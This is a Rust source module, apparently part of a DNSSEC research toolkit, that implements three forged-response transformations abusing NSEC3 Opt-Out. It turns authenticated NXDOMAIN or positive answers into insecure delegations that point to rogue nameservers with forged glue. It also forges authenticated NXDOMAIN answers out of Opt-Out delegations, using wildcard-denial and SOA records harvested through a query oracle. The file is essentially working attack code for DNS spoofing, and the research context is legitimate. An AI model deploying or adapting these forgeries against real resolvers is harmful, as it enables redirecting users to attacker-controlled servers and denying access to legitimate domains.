//! The three Opt-Out response transformations.

use std::net::Ipv4Addr;

use rand::Rng;
use thiserror::Error;

use super::convert::Convertibility;
use super::oracle::QueryOracle;
use crate::dnssec::denial::{verify_nsec3_denial, ProofKind};
use crate::dnssec::nsec3::{nsec3_hash, Nsec3Params, Nsec3Record};
use crate::dnssec::{SignedZone, ValidationResult};
use crate::message::{DnsMessage, Flags, Question, ResponseCode};
use crate::name::DomainName;
use crate::rr::{RData, RecordType, ResourceRecord};

const FORGED_TTL: u32 = 3600;
const RANDOM_LABEL_LEN: usize = 9;
const RANDOM_NAME_TRIES: usize = 64;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ForgeError {
    #[error("victim is not convertible")]
    Inconvertible,
    #[error("response is not an authenticated NXDOMAIN proof")]
    NotNxDomain,
    #[error("next-closer name is not covered by an Opt-Out record")]
    NoOptOut,
    #[error("response is not an Opt-Out insecure delegation")]
    NotInsecureDelegation,
    #[error("delegation is signed")]
    SignedDelegation,
    #[error("oracle failure: {0}")]
    Oracle(String),
    #[error("could not harvest {0}")]
    Harvest(&'static str),
}

/// Keys and parameters of the zone whose responses are transformed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForgeContext {
    pub apex: DomainName,
    pub params: Nsec3Params,
    pub zone_keys: Vec<ResourceRecord>,
    pub clock: u32,
}

impl ForgeContext {
    pub fn for_zone(sz: &SignedZone, clock: u32) -> Self {
        ForgeContext {
            apex: sz.apex().clone(),
            params: sz.nsec3_params.clone(),
            zone_keys: sz.zone_signing_keys(),
            clock,
        }
    }

    fn hash(&self, name: &DomainName) -> Vec<u8> {
        nsec3_hash(name, &self.params).map(|h| h.to_vec()).unwrap_or_default()
    }
}

/// Rogue delegation material: NS names and the address they all point at.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RogueDelegation {
    pub ns: Vec<DomainName>,
    pub address: Ipv4Addr,
}

impl RogueDelegation {
    /// `ns1`..`nsN` under the cut.
    pub fn under(cut: &DomainName, count: usize, address: Ipv4Addr) -> Self {
        let ns = (1..=count)
            .map(|i| cut.prepend(format!("ns{i}").as_bytes()).expect("short label"))
            .collect();
        RogueDelegation { ns, address }
    }

    fn records(&self, cut: &DomainName) -> (Vec<ResourceRecord>, Vec<ResourceRecord>) {
        let ns = self
            .ns
            .iter()
            .map(|t| ResourceRecord::new(cut.clone(), FORGED_TTL, RData::NS(t.clone())))
            .collect();
        let glue = self
            .ns
            .iter()
            .map(|t| ResourceRecord::new(t.clone(), FORGED_TTL, RData::A(self.address)))
            .collect();
        (ns, glue)
    }
}

fn response_shell(qname: &DomainName, qtype: RecordType, rcode: ResponseCode) -> DnsMessage {
    DnsMessage {
        flags: Flags {
            response: true,
            ..Flags::default()
        },
        question: Some(Question::new(qname.clone(), qtype)),
        rcode,
        ..Default::default()
    }
}

fn push_unique(out: &mut Vec<ResourceRecord>, rrs: impl IntoIterator<Item = ResourceRecord>) {
    for rr in rrs {
        if !out.contains(&rr) {
            out.push(rr);
        }
    }
}

/// NSEC3 records of a response with their owners' signatures.
fn nsec3_with_sigs(resp: &DnsMessage, apex: &DomainName) -> Vec<(Nsec3Record, Vec<ResourceRecord>)> {
    resp.authority
        .iter()
        .filter_map(|rr| {
            let rec = Nsec3Record::from_rr(rr, apex)?;
            let mut rrs = vec![rr.clone()];
            rrs.extend(
                resp.authority
                    .iter()
                    .filter(|s| s.owner == rr.owner && s.covered_type() == Some(RecordType::NSEC3))
                    .cloned(),
            );
            Some((rec, rrs))
        })
        .collect()
}

/// Closest encloser of `name` provable from `records`, with the next-closer
/// name.
fn closest_encloser(
    records: &[(Nsec3Record, Vec<ResourceRecord>)],
    name: &DomainName,
    ctx: &ForgeContext,
) -> Option<(DomainName, DomainName)> {
    let mut next_closer = name.clone();
    for ancestor in name.ancestors().skip(1) {
        if !ancestor.is_subdomain_of(&ctx.apex) {
            return None;
        }
        let h = ctx.hash(&ancestor);
        if records.iter().any(|(r, _)| r.matches(&h)) {
            return Some((ancestor, next_closer));
        }
        next_closer = ancestor;
    }
    None
}

/// Positive answer to insecure delegation: a rogue NS RRset at the witness
/// suffix backed by the harvested covering and closest-encloser records.
pub fn forge_positive_to_delegation(conv: &Convertibility, rogue: &RogueDelegation) -> Result<DnsMessage, ForgeError> {
    let cut = conv
        .witness_suffix
        .as_ref()
        .filter(|_| conv.is_convertible())
        .ok_or(ForgeError::Inconvertible)?;
    let mut msg = response_shell(&conv.victim, RecordType::A, ResponseCode::NoError);
    let (ns, glue) = rogue.records(cut);
    msg.authority.extend(ns);
    push_unique(&mut msg.authority, conv.evidence.iter().cloned());
    msg.additional.extend(glue);
    Ok(msg)
}

/// Authenticated NXDOMAIN to insecure delegation at the next-closer name.
pub fn forge_nxdomain_to_delegation(
    honest: &DnsMessage,
    rogue: &RogueDelegation,
    ctx: &ForgeContext,
) -> Result<DnsMessage, ForgeError> {
    let q = honest.question.as_ref().ok_or(ForgeError::NotNxDomain)?;
    let verdict = verify_nsec3_denial(honest, &q.name, &ctx.apex, Some(&ctx.params), &ctx.zone_keys, ctx.clock);
    if honest.rcode != ResponseCode::NxDomain || verdict.proof != Some(ProofKind::NxDomainProof) {
        return Err(ForgeError::NotNxDomain);
    }
    let records = nsec3_with_sigs(honest, &ctx.apex);
    let (encloser, next_closer) = closest_encloser(&records, &q.name, ctx).ok_or(ForgeError::NotNxDomain)?;
    let nc_hash = ctx.hash(&next_closer);
    let (cover, cover_rrs) = records
        .iter()
        .find(|(r, _)| r.covers(&nc_hash))
        .ok_or(ForgeError::NotNxDomain)?;
    if !cover.opt_out {
        return Err(ForgeError::NoOptOut);
    }
    let ce_hash = ctx.hash(&encloser);
    let (_, encloser_rrs) = records
        .iter()
        .find(|(r, _)| r.matches(&ce_hash))
        .ok_or(ForgeError::NotNxDomain)?;

    let mut msg = response_shell(&q.name, q.rtype, ResponseCode::NoError);
    let (ns, glue) = rogue.records(&next_closer);
    msg.authority.extend(ns);
    push_unique(&mut msg.authority, cover_rrs.iter().cloned());
    push_unique(&mut msg.authority, encloser_rrs.iter().cloned());
    msg.additional.extend(glue);
    Ok(msg)
}

fn random_label(rng: &mut impl Rng) -> Vec<u8> {
    const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..RANDOM_LABEL_LEN)
        .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())])
        .collect()
}

/// Opt-Out insecure delegation to authenticated NXDOMAIN. The wildcard
/// denial is harvested by asking for a random name under the closest
/// encloser, and the SOA by asking for it.
pub fn forge_delegation_to_nxdomain(
    honest: &DnsMessage,
    oracle: &mut dyn QueryOracle,
    ctx: &ForgeContext,
    rng: &mut impl Rng,
) -> Result<DnsMessage, ForgeError> {
    let q = honest.question.as_ref().ok_or(ForgeError::NotInsecureDelegation)?;
    let cut = honest
        .authority
        .iter()
        .find(|rr| rr.rtype() == RecordType::NS && q.name.is_subdomain_of(&rr.owner) && rr.owner != ctx.apex)
        .map(|rr| rr.owner.clone())
        .ok_or(ForgeError::NotInsecureDelegation)?;
    if honest
        .authority
        .iter()
        .any(|rr| rr.rtype() == RecordType::DS && rr.owner == cut)
    {
        return Err(ForgeError::SignedDelegation);
    }
    let verdict = verify_nsec3_denial(honest, &q.name, &ctx.apex, Some(&ctx.params), &ctx.zone_keys, ctx.clock);
    if verdict.result != ValidationResult::Insecure || verdict.proof != Some(ProofKind::OptOutInsecureDelegation) {
        return Err(ForgeError::NotInsecureDelegation);
    }
    let records = nsec3_with_sigs(honest, &ctx.apex);
    let (encloser, next_closer) = closest_encloser(&records, &cut, ctx).ok_or(ForgeError::NotInsecureDelegation)?;
    let nc_hash = ctx.hash(&next_closer);
    let (_, cover_rrs) = records
        .iter()
        .find(|(r, _)| r.covers(&nc_hash))
        .ok_or(ForgeError::NotInsecureDelegation)?;
    let ce_hash = ctx.hash(&encloser);
    let (_, encloser_rrs) = records
        .iter()
        .find(|(r, _)| r.matches(&ce_hash))
        .ok_or(ForgeError::NotInsecureDelegation)?;

    let wildcard_hash = ctx.hash(&encloser.wildcard_child());
    let mut wildcard = None;
    for _ in 0..RANDOM_NAME_TRIES {
        let probe = encloser
            .prepend(&random_label(rng))
            .map_err(|e| ForgeError::Oracle(e.to_string()))?;
        let resp = oracle.query(&probe, RecordType::A).map_err(ForgeError::Oracle)?;
        if resp.rcode != ResponseCode::NxDomain {
            continue;
        }
        if let Some((_, rrs)) = nsec3_with_sigs(&resp, &ctx.apex)
            .into_iter()
            .find(|(r, _)| r.covers(&wildcard_hash))
        {
            wildcard = Some(rrs);
            break;
        }
    }
    let wildcard = wildcard.ok_or(ForgeError::Harvest("wildcard denial"))?;
    let soa_resp = oracle.query(&ctx.apex, RecordType::SOA).map_err(ForgeError::Oracle)?;
    let soa: Vec<ResourceRecord> = soa_resp
        .answer
        .iter()
        .filter(|rr| {
            rr.owner == ctx.apex && (rr.rtype() == RecordType::SOA || rr.covered_type() == Some(RecordType::SOA))
        })
        .cloned()
        .collect();
    if soa.is_empty() {
        return Err(ForgeError::Harvest("SOA"));
    }

    let mut msg = response_shell(&q.name, q.rtype, ResponseCode::NxDomain);
    msg.flags.authoritative = true;
    msg.authority.extend(soa);
    push_unique(&mut msg.authority, cover_rrs.iter().cloned());
    push_unique(&mut msg.authority, encloser_rrs.iter().cloned());
    push_unique(&mut msg.authority, wildcard);
    Ok(msg)
}
